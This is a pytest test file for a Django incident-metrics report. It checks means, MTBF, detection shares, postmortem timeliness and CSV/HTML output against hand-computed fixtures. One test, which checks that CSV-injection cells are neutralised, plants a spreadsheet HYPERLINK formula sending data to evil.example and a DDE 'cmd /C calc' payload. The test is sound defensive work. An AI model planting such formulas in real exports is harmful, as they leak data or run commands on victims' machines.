"""Every metric against a hand-computed set of incidents, including incidents on both edges of
the range. The rule (postmortems.reports): an incident belongs to the range it was declared in;
its durations count in full; false positives stay out of the means, MTBF and repeats.

Range: Mon 2026-03-02 .. Sun 2026-03-15 (two weeks, UTC).

    inc  declared          sev svc   source      ack  ident mitig resolved   fp  tag
    I1   03-01 23:50       P1  A     alert       +5m  -     -     +70m           bad-deploy   before the range: out
    I2   03-02 00:00:00    P1  A     alert       +2m  +10m  +30m  +2h            bad-deploy   first instant: in
    I3   03-04 12:00       P1  A,B   alert       +4m  +20m  +60m  +6h            bad-deploy
    I4   03-10 08:00       P2  B     customer    +10m -     +2h   +10h           disk-full
    I5   03-15 23:00       P1  A     alert       +6m  +30m  +60m  +4h (03-16)    bad-deploy   resolved after the range: in, in full
    I6   03-16 00:00:00    P1  A     alert       +1m  -     -     +1h            bad-deploy   first instant after: out
    I7   03-12 10:00       P2  A     monitoring  +1m  -     +15m  +15m      yes  bad-deploy
    I8   03-13 09:00       P2  B     staff       -    -     -     open
"""

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta

import pytest

from incidents import catalog
from incidents.models import Incident, Service, Severity
from postmortems import reports
from postmortems.models import ActionItem, Postmortem, PostmortemTemplate

pytestmark = pytest.mark.django_db

M, H = timedelta(minutes=1), timedelta(hours=1)
RANGE = reports.DateRange(date(2026, 3, 2), date(2026, 3, 15))


def at(month, day, hour=0, minute=0):
    return datetime(2026, month, day, hour, minute, tzinfo=UTC)


@pytest.fixture
def fixture_incidents(db):
    a = Service.objects.create(name="API", slug="api")
    b = Service.objects.create(name="Database", slug="db")
    sev = {s.key: s for s in Severity.objects.all()}
    specs = [
        ("I1", at(3, 1, 23, 50), "P1", [a], "alert", 5 * M, None, None, 70 * M, False, "bad-deploy"),
        ("I2", at(3, 2), "P1", [a], "alert", 2 * M, 10 * M, 30 * M, 2 * H, False, "bad-deploy"),
        ("I3", at(3, 4, 12), "P1", [a, b], "alert", 4 * M, 20 * M, 60 * M, 6 * H, False, "bad-deploy"),
        ("I4", at(3, 10, 8), "P2", [b], "customer", 10 * M, None, 2 * H, 10 * H, False, "disk-full"),
        ("I5", at(3, 15, 23), "P1", [a], "alert", 6 * M, 30 * M, 60 * M, 4 * H, False, "bad-deploy"),
        ("I6", at(3, 16), "P1", [a], "alert", 1 * M, None, None, 1 * H, False, "bad-deploy"),
        ("I7", at(3, 12, 10), "P2", [a], "monitoring", 1 * M, None, 15 * M, 15 * M, True, "bad-deploy"),
        ("I8", at(3, 13, 9), "P2", [b], "staff", None, None, None, None, False, ""),
    ]
    made = {}
    for name, declared, key, svcs, source, ack, ident, mitig, resolved, fp, tag in specs:
        inc = Incident.objects.create(
            number=f"INC-20260301-{name}", title=name, severity=sev[key], detection_source=source,
            status="resolved" if resolved else "investigating", declared_at=declared, started_at=declared,
            acknowledged_at=declared + ack if ack else None, identified_at=declared + ident if ident else None,
            mitigated_at=declared + mitig if mitig else None, resolved_at=declared + resolved if resolved else None,
            false_positive=fp, root_cause_tag=tag,
        )
        inc.services.set(svcs)
        made[name] = inc
    return made


@pytest.fixture
def follow_up(fixture_incidents):
    inc = fixture_incidents
    today = date.today()
    past, future = today - timedelta(days=3), today + timedelta(days=3)
    for incident, status, due in (
        (inc["I2"], "done", past), (inc["I3"], "open", past), (inc["I3"], "in_progress", future),
        (inc["I4"], "wont_do", past), (inc["I1"], "open", past),
    ):
        ActionItem.objects.create(incident=incident, title=f"{incident.title} {status}", status=status, due_date=due)
    template = PostmortemTemplate.objects.get(is_default=True)
    now = datetime.now(UTC)
    for incident, due, published in (
        (inc["I2"], at(3, 5), at(3, 4)),            # on time
        (inc["I3"], at(3, 6), at(3, 9)),            # late
        (inc["I4"], at(3, 12), None),               # overdue, not published
        (inc["I5"], now + timedelta(days=1), None), # not yet due
        (inc["I1"], at(3, 3), at(3, 20)),           # outside the range
    ):
        Postmortem.objects.create(incident=incident, template=template, title="pm", due_at=due,
                                  status="published" if published else "draft", published_at=published)


def test_means_per_severity_against_targets(fixture_incidents, django_assert_max_num_queries):
    with django_assert_max_num_queries(12):
        report = reports.compute(RANGE, viewer=None)
    rows = {r.key: r for r in report.severities}
    p1, p2 = rows["P1"], rows["P2"]
    assert (p1.count, p1.false_positives, p1.open) == (3, 0, 0)  # I2, I3, I5 (I1 and I6 are outside)
    assert (p1.mtta, p1.mtti, p1.mttm, p1.mttr) == (240.0, 1200.0, 3000.0, 14400.0)
    assert (p1.mtta_target, p1.mttr_target) == (300.0, 14400.0)
    assert p1.mtta_ok is True and p1.mttr_ok is True  # 4 h mean against a 4 h target: met
    assert (p2.count, p2.false_positives, p2.open) == (3, 1, 1)  # I4, I7 (fp), I8 (open)
    assert (p2.mtta, p2.mtti, p2.mttm, p2.mttr) == (600.0, None, 7200.0, 36000.0)  # I4 only
    assert p2.mtta_ok is False and p2.mttr_ok is True
    assert rows["P0"].count == 0 and rows["P0"].mttr is None
    overall = report.overall
    assert (report.total, report.resolved, overall.open) == (6, 5, 1)
    assert (overall.mtta, overall.mtti, overall.mttm, overall.mttr) == (330.0, 1200.0, 4050.0, 19800.0)


def test_weekly_counts_by_severity_and_service(fixture_incidents):
    report = reports.compute(RANGE, viewer=None)
    assert report.weeks == [date(2026, 3, 2), date(2026, 3, 9)]
    assert report.weekly_by_severity == {"P0": [0, 0], "P1": [2, 1], "P2": [0, 3], "P3": [0, 0]}
    assert report.weekly_by_service == {"API": [2, 2], "Database": [1, 2]}


def test_mtbf_per_service(fixture_incidents):
    report = reports.compute(RANGE, viewer=None)
    assert report.mtbf == [
        {"service": "API", "incidents": 3, "mtbf": 603000.0, "ok": False},       # (03-15 23:00 - 03-02 00:00) / 2 = 167.5 h
        {"service": "Database", "incidents": 3, "mtbf": 383400.0, "ok": False},  # (03-13 09:00 - 03-04 12:00) / 2 = 106.5 h
    ]  # both under the seeded target of 30 days


def test_detection_split_false_positives_and_repeats(fixture_incidents):
    report = reports.compute(RANGE, viewer=None)
    assert {d["source"]: d["count"] for d in report.detection} == {"alert": 3, "monitoring": 1, "customer": 1, "staff": 1}
    assert report.alert_share == 0.5 and report.alert_target == 0.8
    assert report.false_positives == 1 and report.false_positive_rate == 0.2  # 1 of 5 resolved
    assert report.repeats == [{"service": "API", "root_cause_tag": "bad-deploy", "incidents": 3}]
    assert report.repeat_incidents == 2


def test_action_items_and_postmortems_on_time(follow_up):
    report = reports.compute(RANGE, viewer=None)
    assert report.action_items == {"total": 4, "done": 1, "open": 2, "overdue": 1, "wont_do": 1}
    pm = report.postmortems
    assert {k: pm[k] for k in ("total", "published", "on_time", "late", "overdue", "pending")} == {
        "total": 4, "published": 2, "on_time": 1, "late": 1, "overdue": 1, "pending": 1,
    }
    assert pm["on_time_rate"] == pytest.approx(1 / 3)


def test_empty_range_has_no_means_and_no_rates(db):
    report = reports.compute(reports.DateRange(date(2020, 1, 1), date(2020, 1, 31)), viewer=None)
    assert report.total == 0 and report.overall.mttr is None
    assert report.alert_share is None and report.false_positive_rate is None and report.postmortems["on_time_rate"] is None


def test_csv_export_matches_the_figures(client, fixture_incidents, follow_up, viewer):
    client.force_login(viewer)
    response = client.get("/reports/metrics.csv", {"since": "2026-03-02", "until": "2026-03-15"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "incident-metrics-2026-03-02-2026-03-15.csv" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["metric", "dimension", "value", "unit", "target"]
    assert ["mttr", "P1", "14400.0", "seconds", "14400.0"] in rows
    assert ["mtta", "P2", "600.0", "seconds", "300.0"] in rows
    assert ["mtti", "P2", "", "seconds", ""] in rows
    assert ["incidents_per_week", "2026-03-09 severity P2", "3", "count", ""] in rows
    assert ["mtbf", "API", "603000.0", "seconds", "2592000.0"] in rows  # target: 30 days
    assert ["alert_share", "alert", "0.5", "ratio", "0.8"] in rows
    assert ["false_positive_rate", "all", "0.2", "ratio", "0.1"] in rows  # target: at most 10%
    assert ["repeat_incidents", "API / bad-deploy", "3", "count", ""] in rows
    assert ["action_items", "overdue", "1", "count", ""] in rows
    assert ["postmortems", "on_time", "1", "count", ""] in rows
    assert ["postmortems_on_time_rate", "all", "0.3333", "ratio", ""] in rows


def test_csv_export_neutralises_cells_a_spreadsheet_would_run(client, fixture_incidents, viewer):
    """OWASP CSV injection: text cells beginning with = + - @ tab or CR get a leading '."""
    Service.objects.filter(slug="api").update(name='=HYPERLINK("http://evil.example/?x="&A1,"click")')
    Service.objects.filter(slug="db").update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    Incident.objects.filter(root_cause_tag="bad-deploy").update(root_cause_tag="-2+3")
    client.force_login(viewer)
    rows = list(csv.reader(io.StringIO(client.get("/reports/metrics.csv", {"since": "2026-03-02", "until": "2026-03-15"}).content.decode())))
    assert ["mtbf", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "603000.0", "seconds", "2592000.0"] in rows
    assert any(r[1] == "'@SUM(1+1)*cmd|' /C calc'!A0" for r in rows if r[0] == "mtbf")
    for row in rows:
        for cell in row:
            if cell and cell[0] in "=+-@\t\r":
                float(cell)  # only numbers may start so (a negative figure)


def test_mttk_from_impact_start_and_targets_met_or_missed(fixture_incidents, client, viewer):
    """MTTK: impact start to declaration (false positives left out); the MTTK, MTTI, MTBF and
    false-positive targets (the one row, changed through its service) judged on the page, the API
    and the CSV."""
    inc = fixture_incidents
    for name, minutes in (("I2", 2), ("I3", 10), ("I5", 6), ("I4", 30), ("I8", 12), ("I7", 99)):  # I7: a false positive
        Incident.objects.filter(pk=inc[name].pk).update(started_at=inc[name].declared_at - minutes * M)
    catalog.metric_targets_update(by=None, mttk_target=15 * M, mtti_target=15 * M, mtbf_target=5 * 24 * H,
                                  false_positive_rate_target=0.1)
    report = reports.compute(RANGE, viewer=None)
    assert report.overall.mttk == 720.0  # (2 + 10 + 6 + 30 + 12) / 5 minutes
    assert {r.key: r.mttk for r in report.severities}["P1"] == 360.0  # (2 + 10 + 6) / 3 minutes
    assert report.verdicts == {"mttk": True, "mtti": False, "false_positive_rate": False, "mtbf": False}
    assert [r["ok"] for r in report.mtbf] == [True, False]  # API 167.5 h >= 5 d; Database 106.5 h < 5 d
    data = reports.as_dict(report)
    assert data["targets"]["mttk"] == {"target": 900.0, "met": True}
    assert data["overall"]["mttk_seconds"] == 720.0
    assert ["mttk", "all", 720.0, "seconds", 900.0] in reports.csv_rows(report)

    client.force_login(viewer)
    html = client.get("/reports/metrics/", {"since": "2026-03-02", "until": "2026-03-15"}).content.decode()
    assert re.search(r'id="stat-mttk"><span class="muted">MTTK</span><strong class="target-met">12 min</strong>', html)
    assert re.search(r'id="stat-mtti"><span class="muted">MTTI</span><strong class="target-missed">20 min</strong>', html)
    assert re.search(r'id="stat-false-positives"><span class="muted">False positives</span><strong class="target-missed">', html)
    assert '<td class="target-met">6 d 23 h</td>' in html
